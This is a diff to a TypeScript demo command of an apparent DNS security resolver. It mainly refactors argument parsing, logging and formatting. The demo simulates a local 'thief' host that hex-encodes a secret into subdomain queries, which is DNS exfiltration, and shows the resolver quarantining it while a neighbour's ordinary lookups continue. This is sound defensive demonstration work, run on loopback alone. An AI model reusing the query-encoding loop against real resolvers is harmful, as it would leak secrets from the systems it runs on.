@@ -6,7 +6,6 @@ import { randomBytes } from 'node:crypto';
 import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { parseArgs } from 'node:util';
 import type { Config } from '../config/config.ts';
 import { parseConfig } from '../config/parse-config.ts';
 import { configErrorText } from '../config/problems.ts';
@@ -15,7 +14,7 @@ import { createLog } from '../telemetry/log.ts';
 import { version } from '../version.ts';
 import { type DemoAuthority, startDemoAuthority } from './demo-authority.ts';
 import { ask, type DemoAnswer } from './demo-client.ts';
-import { usageError, type VerbIo } from './verb.ts';
+import { parseVerb, type VerbIo, wrongUsage } from './verb.ts';
 
 const THIEF = '127.0.0.66';
 const NEIGHBOUR = '127.0.0.7';
@@ -25,9 +24,24 @@ const OCTETS_PER_QUERY = 24;
 
 /** What an ordinary build asks for. */
 const ORDINARY_NAMES = [
-  'github.com', 'api.github.com', 'objects.githubusercontent.com', 'registry.npmjs.org', 'pypi.org', 'files.pythonhosted.org',
-  'deb.debian.org', 'security.debian.org', 'proxy.golang.org', 'crates.io', 'static.crates.io', 'hub.docker.com', 'auth.docker.io',
-  'production.cloudflare.docker.com', 'www.wikipedia.org', 'en.wikipedia.org', 'time.cloudflare.com', 'www.example.com',
+  'github.com',
+  'api.github.com',
+  'objects.githubusercontent.com',
+  'registry.npmjs.org',
+  'pypi.org',
+  'files.pythonhosted.org',
+  'deb.debian.org',
+  'security.debian.org',
+  'proxy.golang.org',
+  'crates.io',
+  'static.crates.io',
+  'hub.docker.com',
+  'auth.docker.io',
+  'production.cloudflare.docker.com',
+  'www.wikipedia.org',
+  'en.wikipedia.org',
+  'time.cloudflare.com',
+  'www.example.com',
 ]; // prettier-ignore
 
 interface Step {
@@ -54,8 +68,9 @@ Shows a theft over DNS being stopped, on this machine alone.`;
 
 /** 0 when the theft was stopped and the neighbour was not disturbed, 1 when not. */
 export async function run(args: readonly string[], io: VerbIo): Promise<number> {
-  const json = readOptions(args);
-  if (typeof json === 'string') return usageError(io, json, usage);
+  const parsed = parseVerb(args, { json: { type: 'boolean', default: false } });
+  if (parsed.kind === 'wrong') return wrongUsage(io, usage, parsed.message);
+  const { json } = parsed.values;
   const folder = await mkdtemp(join(tmpdir(), 'kennel-demo-'));
   const authority = await startDemoAuthority();
   try {
@@ -72,21 +87,13 @@ export async function run(args: readonly string[], io: VerbIo): Promise<number> 
   }
 }
 
-function readOptions(args: readonly string[]): boolean | string {
-  try {
-    return parseArgs({ args: [...args], options: { json: { type: 'boolean', default: false } } }).values.json;
-  } catch (error) {
-    return error instanceof Error ? error.message : String(error);
-  }
-}
-
 async function play(folder: string, authority: DemoAuthority, say: (line: string) => void): Promise<DemoResult | string> {
   const parsed = parseConfig(configText(folder, authority.port), 'demo.yaml', { resolvConf: null, stateFolder: folder });
   if (!parsed.ok) throw new Error(`the demo's own config is wrong: ${parsed.errors.map(configErrorText).join('; ')}`);
   // Any free port: the demo must run beside a Kennel that is in use.
   const config: Config = { ...parsed.config, listen: { ...parsed.config.listen, dns: [{ address: '127.0.0.1', port: 0 }] } };
-  const { log } = createLog({ level: 'warn', names: true, readable: true });
-  const started = await startKennel(config, { version: version(), log });
+  const log = createLog({ level: 'warn', names: true, readable: true });
+  const started = await startKennel(config, { version: version(), log: log.log, logDropped: log.dropped });
   if (started.kind === 'failed') return started.messages.join('\n');
   const { kennel } = started;
   const server = kennel.dns[0];
@@ -94,7 +101,9 @@ async function play(folder: string, authority: DemoAuthority, say: (line: string
 
   try {
     say(`A resolver in enforce mode on ${server.address}:${server.port}, and a nameserver for every domain behind it.`);
-    say(`${THIEF} holds a secret of ${SECRET_OCTETS} octets and writes it, ${OCTETS_PER_QUERY} octets a query in hex, into names below ${THIEF_DOMAIN}.`);
+    say(
+      `${THIEF} holds a secret of ${SECRET_OCTETS} octets and writes it, ${OCTETS_PER_QUERY} octets a query in hex, into names below ${THIEF_DOMAIN}.`,
+    );
     say(`${NEIGHBOUR} builds software.\n`);
     say('query  asked for                                                    score  answer    secret octets out');
 
@@ -107,7 +116,13 @@ async function play(folder: string, authority: DemoAuthority, say: (line: string
     for (let at = 0, query = 1; at < secret.length; at += OCTETS_PER_QUERY * 2, query++) {
       const name = `${secret.slice(at, at + OCTETS_PER_QUERY * 2)}.${query}.${THIEF_DOMAIN}`;
       const answer = await ask(THIEF, server, name);
-      const step: Step = { query, name, score: kennel.pipeline.sessions.peek(THIEF)?.score ?? 0, rcode: answer.rcode, octetsOut: octetsOut(authority, secret) };
+      const step: Step = {
+        query,
+        name,
+        score: kennel.pipeline.sessions.peek(THIEF)?.score ?? 0,
+        rcode: answer.rcode,
+        octetsOut: octetsOut(authority, secret),
+      };
       theft.push(step);
       const record = kennel.quarantines.list().find((quarantined) => quarantined.session === THIEF) ?? null;
       const crossed = quarantine === null && record !== null;
@@ -121,7 +136,9 @@ async function play(folder: string, authority: DemoAuthority, say: (line: string
       await askAsNeighbour(server, query, neighbour);
     }
 
-    say(`After ${theft.length} queries: ${octetsOut(authority, secret)} of ${SECRET_OCTETS} octets of the secret reached the thief's nameserver.`);
+    say(
+      `After ${theft.length} queries: ${octetsOut(authority, secret)} of ${SECRET_OCTETS} octets of the secret reached the thief's nameserver.`,
+    );
     say(`${NEIGHBOUR} asked ${neighbour.asked} times meanwhile and was answered ${neighbour.answered} times.`);
     return { secretOctets: SECRET_OCTETS, octetsOut: octetsOut(authority, secret), theft, quarantine, explanation, neighbour };
   } finally {
@@ -129,7 +146,11 @@ async function play(folder: string, authority: DemoAuthority, say: (line: string
   }
 }
 
-async function askAsNeighbour(server: { address: string; port: number }, turn: number, count: { asked: number; answered: number }): Promise<void> {
+async function askAsNeighbour(
+  server: { address: string; port: number },
+  turn: number,
+  count: { asked: number; answered: number },
+): Promise<void> {
   const name = ORDINARY_NAMES[(turn - 1) % ORDINARY_NAMES.length];
   if (name === undefined) return;
   const answer: DemoAnswer = await ask(NEIGHBOUR, server, name);
